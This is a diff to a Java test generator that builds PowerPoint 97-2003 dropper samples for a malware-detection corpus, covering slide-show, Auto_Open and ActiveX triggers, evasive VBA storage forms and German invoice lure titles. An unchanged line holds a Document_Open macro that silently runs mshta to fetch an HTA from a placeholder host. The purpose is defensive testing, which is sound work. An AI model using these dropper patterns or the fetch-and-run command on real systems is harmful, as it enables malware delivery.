@@ -13,9 +13,10 @@ import org.peekaboo.office.testing.PowerPointFiles;
  * PowerPoint 97-2003 presentations (.ppt, and .pps, which opens straight into the slide show)
  * for the detection corpus: droppers whose VBA project runs by a slide-show procedure, an
  * add-in's Auto_Open or an ActiveX event on a slide and carries one of {@link DropperMacros}'
- * payloads, stored the ways generators write it (compressed, uncompressed, without the
- * VBAInfo pointer) or inside a Word document embedded in a slide; and presentations with
- * harmless macros. Words in modules only: nothing here can run.
+ * payloads, in a presentation with slides as PowerPoint writes it (POI's HSLF, the VBA project
+ * added by a fast-save edit) or in a bare one as droppers' generators write it (uncompressed,
+ * without the VBAInfo pointer), or inside a Word document embedded in a slide; and
+ * presentations with harmless macros. Words in modules only: nothing here can run.
  */
 final class DropperPowerPoint {
 
@@ -52,20 +53,20 @@ final class DropperPowerPoint {
             payload.body().forEach(line -> lines.add("    " + line));
             lines.add("End Sub");
             Map<String, String> modules = OfficeFiles.module(trigger.module(), lines.toArray(String[]::new));
-            PowerPointFiles.Builder builder = PowerPointFiles.builder().vba(modules);
             String storage = switch (p % 3) {
                 case 0 -> "";
                 case 1 -> "-uncompressed";
                 default -> "-no-vbainfo";
             };
-            if (p % 3 == 1) {
-                builder.uncompressed();
-            } else if (p % 3 == 2) {
-                builder.withoutVbaInfo();
-            }
+            byte[] bytes = switch (p % 3) {
+                case 0 -> PowerPointFiles.withVba(PowerPointFiles.presentation("Rechnung " + (4711 + p),
+                        "Bitte die Bildschirmpraesentation starten"), modules);
+                case 1 -> PowerPointFiles.builder().vba(modules).uncompressed().build();
+                default -> PowerPointFiles.builder().vba(modules).withoutVbaInfo().build();
+            };
             String extension = trigger.tag().startsWith("slideshow") ? "pps" : "ppt";
             samples.add(new Sample("malicious", "pp%02d-%s-%s%s.%s".formatted(p + 1, trigger.tag(), payload.tag(),
-                    storage, extension), builder.build()));
+                    storage, extension), bytes));
         }
         byte[] doc = OfficeFiles.doc(OfficeFiles.module("ThisDocument", "Private Sub Document_Open()",
                 "    CreateObject(\"WScript.Shell\").Run \"mshta http://example.invalid/slide.hta\", 0",
@@ -93,7 +94,8 @@ final class DropperPowerPoint {
         for (Map.Entry<String, Map<String, String>> kind : kinds.entrySet()) {
             String extension = kind.getKey().startsWith("slideshow") ? "pps" : "ppt";
             samples.add(new Sample("benign-macros", "pp-%s.%s".formatted(kind.getKey(), extension),
-                    PowerPointFiles.ppt(kind.getValue())));
+                    PowerPointFiles.withVba(PowerPointFiles.presentation("Quartalszahlen", "Ausblick"),
+                            kind.getValue())));
         }
         return samples;
     }
